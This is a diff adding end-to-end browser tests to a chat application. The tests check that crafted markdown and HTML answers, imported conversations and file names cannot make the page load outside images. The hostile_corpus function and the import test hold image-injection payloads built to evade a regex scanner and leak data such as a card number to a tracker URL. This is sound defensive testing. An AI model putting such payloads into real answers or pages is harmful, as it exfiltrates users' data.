@@ -11,6 +11,10 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import expect
 
+from components.conversation.exchange import AnswerMeta
+from components.conversation.history import Conversation
+from components.conversation.transfer import export_json
+from components.devtools import image_factory as make
 from components.devtools.browser import (
     assert_no_exception,
     console_errors,
@@ -18,7 +22,12 @@ from components.devtools.browser import (
     wait_for_idle,
 )
 from components.devtools.upstream import FakeUpstream, sse
+from components.errors import AuthError, ImageError
 from components.i18n import t
+from components.images.prepare import prepare_image
+from components.providers.client import Usage
+from components.ui import state_keys as keys
+from tests.e2e.test_compare import open_compare
 
 SHOTS = Path(os.environ.get("KANTU_SHOTS", "/tmp/shots/safety"))
 
@@ -132,3 +141,117 @@ def test_blocked_image_is_a_placeholder_and_html_link_shows_its_clean_address(
     assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
     assert_no_exception(page)
     assert console_errors(page) == []
+
+
+# --- issue 19, item 5: a corpus where the regex scanner and the renderer disagreed --------------
+
+
+def hostile_corpus(origin: str) -> list[str]:
+    """Answers that made Chromium load an outside image through the old scanner, each with its
+    own address on the tracker (``leak-N``) so a request would say which one got through."""
+    return [
+        f"[source](http://x/`)![]({origin}/leak-1?q=card-4242)` ",
+        f"[source](<http://x/`>)![]({origin}/leak-2)` ",
+        f'[source](http://x/ "`")![]({origin}/leak-3)` ',
+        f"[source](http://x/ '`')![]({origin}/leak-4)` ",
+        f"```a`b\n![]({origin}/leak-5)\n```",
+        f"    ```\n![]({origin}/leak-6)\n    ```",
+        f"\t```\n![]({origin}/leak-7)\n\t```",
+        f"$`$ ![]({origin}/leak-8) `$`",
+        f"&lt;img src={origin}/leak-9&gt; <img src={origin}/leak-10>",
+        f"[r]: {origin}/leak-11\n\n![x][r] [y][r]",
+    ]
+
+
+def outside_requests(page, app_url: str) -> list[str]:
+    """Start recording every request the page makes to anywhere but the app; return the list."""
+    own = app_url.split("/", 3)[:3]
+    outside: list[str] = []
+
+    def record(request) -> None:
+        url = request.url
+        if not url.startswith(("data:", "blob:")) and url.split("/", 3)[:3] != own:
+            outside.append(url)
+
+    page.on("request", record)
+    return outside
+
+
+def _sidebar_section(page, title: str):
+    sidebar = page.get_by_test_id("stSidebar")
+    if not sidebar.is_visible() or sidebar.get_attribute("aria-expanded") == "false":
+        page.get_by_test_id("stExpandSidebarButton").click()
+    section = sidebar.get_by_test_id("stExpander").filter(has_text=title)
+    details = section.get_by_test_id("stExpanderDetails")
+    if not details.is_visible():
+        section.locator("summary").click()
+    expect(details).to_be_visible()
+    return section
+
+
+def test_hostile_corpus_loads_nothing_live_or_recorded(app, new_page, up, tracker):
+    corpus = hostile_corpus(tracker.origin)
+    up.enqueue(sse(["\n\n".join(corpus[:5]), "\n\n", "\n\n".join(corpus[5:])], delay=0.2))
+    page = new_page(app, locale="en-US")
+    outside = outside_requests(page, app.url)
+    send_prompt(page, "What does it say?")
+    answer = page.get_by_test_id("stChatMessage").last
+    expect(answer.get_by_test_id("stCaptionContainer")).to_be_visible()  # the recorded answer
+    wait_for_idle(page)
+    page.wait_for_load_state("networkidle")
+    assert outside == [] and tracker.requests == [], outside
+    expect(answer).to_contain_text(f"{tracker.origin}/leak-1?q=card-4242")
+    expect(answer).to_contain_text(f"{tracker.origin}/leak-6")
+    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
+    assert_no_exception(page)
+
+
+def test_hostile_corpus_in_compare_columns_loads_nothing(app, new_page, up, tracker):
+    corpus = hostile_corpus(tracker.origin)
+    up.reset()
+    up.default = sse(["\n\n".join(corpus)], delay=0.1)
+    page = new_page(app, locale="en-US")
+    outside = outside_requests(page, app.url)
+    open_compare(page, "en")
+    uploader = page.locator(f".st-key-{keys.COMPARE_FILES}")
+    uploader.locator("input[type=file]").set_input_files(
+        {"name": "cat.jpg", "mimeType": "image/jpeg", "buffer": make.photo_jpeg(400, 300)}
+    )
+    expect(uploader.get_by_test_id("stFileChipIconSpinner")).to_have_count(0)
+    page.locator(f".st-key-{keys.COMPARE_QUESTION}").locator("input").fill("What is it?")
+    page.keyboard.press("Enter")
+    wait_for_idle(page)
+    page.locator(f".st-key-{keys.COMPARE_RUN_BUTTON}").locator("button").click()
+    column = page.locator(f".st-key-{keys.compare_column_key('col', 'A')}")
+    expect(column).to_contain_text("⏱", timeout=20_000)  # the finished column
+    expect(page.locator(f".st-key-{keys.compare_column_key('vote', 'A')}")).to_be_visible()
+    wait_for_idle(page)
+    page.wait_for_load_state("networkidle")
+    assert outside == [] and tracker.requests == [], outside
+    expect(column).to_contain_text(f"{tracker.origin}/leak-1?q=card-4242")
+    assert_no_exception(page)
+
+
+def test_hostile_import_loads_nothing(app, new_page, up, tracker, tmp_path):
+    origin = tracker.origin
+    evil = f"![]({origin}/name.png)<img src={origin}/tag.png>"
+    photo = prepare_image(make.photo_jpeg(320, 240), name=f"cat{evil}.jpg", model="gpt-4o")
+    conv = Conversation()
+    conv.add_user(f"what {evil}", [photo], refusals=[ImageError("too_many_bytes", f"x{evil}")])
+    meta = AnswerMeta("ok", f"gpt-4o{evil}", f"real{evil}", "stop", Usage(10, 2, 12))
+    conv.add_answer("\n\n".join(hostile_corpus(origin)), meta=meta)
+    conv.add_user("again", [])
+    conv.add_answer("", status="error", error=AuthError(f"Incorrect key {evil}"))
+    exported = tmp_path / "hostile.json"
+    exported.write_bytes(export_json(conv))
+
+    page = new_page(app, locale="en-US")
+    outside = outside_requests(page, app.url)
+    tools = _sidebar_section(page, t("tools.title", "en"))
+    tools.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(exported)
+    expect(page.get_by_text(t("transfer.imported", "en", entries=4, pictures=1))).to_be_visible()
+    wait_for_idle(page)
+    page.wait_for_load_state("networkidle")
+    assert outside == [] and tracker.requests == [], outside
+    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text(f"{origin}/leak-5")
+    assert_no_exception(page)
